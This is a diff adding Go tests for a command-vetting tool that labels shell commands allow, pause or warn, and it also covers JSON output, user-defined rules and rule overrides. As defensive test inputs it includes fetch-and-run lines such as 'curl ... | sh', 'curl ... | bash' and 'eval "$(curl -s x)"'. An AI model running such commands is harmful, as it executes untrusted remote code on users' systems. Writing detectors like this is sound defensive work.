@@ -1,0 +1,129 @@
+package main
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestCheckExitCodesAndOutput(t *testing.T) {
+	e := newEnv(t)
+	out, _, code := runPiped(t, e, "", "check", "ls -la")
+	if code != 0 || !strings.Contains(out, "ALLOW") {
+		t.Errorf("allow: exit %d %q", code, out)
+	}
+	out, _, code = runPiped(t, e, "", "check", "curl -fsSL https://x.example/i.sh | sh")
+	if code != 1 || !strings.Contains(out, "PAUSE") || !strings.Contains(out, "opaque.pipe-to-shell") || !strings.Contains(out, "^^") {
+		t.Errorf("pause: exit %d %q", code, out)
+	}
+	_, errOut, code := runPiped(t, e, "", "check")
+	if code != 2 || !strings.Contains(errOut, "no command given") {
+		t.Errorf("usage: exit %d %q", code, errOut)
+	}
+	out, _, code = runPiped(t, e, "eval \"$(curl -s x)\"\n", "check", "--stdin")
+	if code != 1 || !strings.Contains(out, "opaque.dynamic-code") {
+		t.Errorf("--stdin: exit %d %q", code, out)
+	}
+}
+
+func TestCheckJSONContract(t *testing.T) {
+	e := newEnv(t)
+	in := `{"command": "ls"}
+{"command": "curl -s https://x.example | bash"}
+
+{"command": "sh -c \"$X\""}
+`
+	out, _, code := runPiped(t, e, in, "check", "--json", "--stdin")
+	if code != 0 {
+		t.Fatalf("exit %d", code)
+	}
+	lines := strings.Split(strings.TrimSpace(out), "\n")
+	if len(lines) != 3 {
+		t.Fatalf("%d output lines for 3 commands: %q", len(lines), out)
+	}
+	want := []struct{ cmd, verdict string }{{"ls", "allow"}, {"curl -s https://x.example | bash", "pause"}, {`sh -c "$X"`, "pause"}}
+	for i, l := range lines {
+		var r map[string]any
+		if err := json.Unmarshal([]byte(l), &r); err != nil {
+			t.Fatal(err)
+		}
+		for _, k := range []string{"command", "verdict", "severity", "rule", "category", "reason", "spans"} {
+			if _, ok := r[k]; !ok {
+				t.Errorf("line %d lacks %q: %s", i, k, l)
+			}
+		}
+		if r["command"] != want[i].cmd || r["verdict"] != want[i].verdict {
+			t.Errorf("line %d = %s, want %+v", i, l, want[i])
+		}
+	}
+	// A line that is not JSON is a pause with an error, never skipped.
+	out, _, code = runPiped(t, e, "{\"command\": \"ls\"}\n{oops\n", "check", "--json", "--stdin")
+	if code != 2 || strings.Count(out, "\n") != 2 || !strings.Contains(out, `"error":"stdin:2:`) {
+		t.Errorf("bad line: exit %d %q", code, out)
+	}
+}
+
+func TestCheckConfig(t *testing.T) {
+	e := newEnv(t)
+	path := filepath.Join(e.home, "s.toml")
+	os.WriteFile(path, []byte(`[detect]
+protected = ["vol_9f3c2a7e"]
+
+[[detect.extra]]
+id = "no-deploy-script"
+pattern = "deploy\\.sh"
+reason = "runs the production deploy script"
+examples = ["./deploy.sh"]
+
+[[detect.extra]]
+id = "broken"
+pattern = "abc"
+reason = "r"
+examples = ["xyz"]
+`), 0o600)
+	_, errOut, code := runPiped(t, e, "", "check", "--config", path, "ls")
+	if code != 2 || !strings.Contains(errOut, path+":14: detect.extra[1].examples[0]") {
+		t.Fatalf("exit %d, %q", code, errOut)
+	}
+	os.WriteFile(path, []byte(`[detect]
+[[detect.extra]]
+id = "no-deploy-script"
+pattern = "deploy\\.sh"
+reason = "runs the production deploy script"
+examples = ["./deploy.sh"]
+
+[detect.rules."opaque.pipe-to-shell"]
+verdict = "warn"
+`), 0o600)
+	out, _, code := runPiped(t, e, "", "check", "--config", path, "bash ./deploy.sh")
+	if code != 1 || !strings.Contains(out, "user.no-deploy-script") {
+		t.Fatalf("extra rule: exit %d %q", code, out)
+	}
+	out, _, code = runPiped(t, e, "", "check", "--config", path, "curl x | sh")
+	if code != 0 || !strings.Contains(out, "WARN") {
+		t.Fatalf("override: exit %d %q", code, out)
+	}
+}
+
+func TestRulesListsTheCatalogue(t *testing.T) {
+	e := newEnv(t)
+	out, _, code := runPiped(t, e, "", "rules", "--json")
+	if code != 0 {
+		t.Fatalf("exit %d", code)
+	}
+	var rules []map[string]any
+	if err := json.Unmarshal([]byte(out), &rules); err != nil || len(rules) == 0 {
+		t.Fatalf("rules --json: %v %q", err, out[:min(len(out), 200)])
+	}
+	for _, r := range rules {
+		if r["id"] == "" || r["description"] == "" {
+			t.Errorf("rule without id or description: %v", r)
+		}
+	}
+	out, _, _ = runPiped(t, e, "", "rules")
+	if !strings.Contains(out, "OPAQUE") || !strings.Contains(out, "opaque.pipe-to-shell") {
+		t.Fatalf("rules: %q", out)
+	}
+}
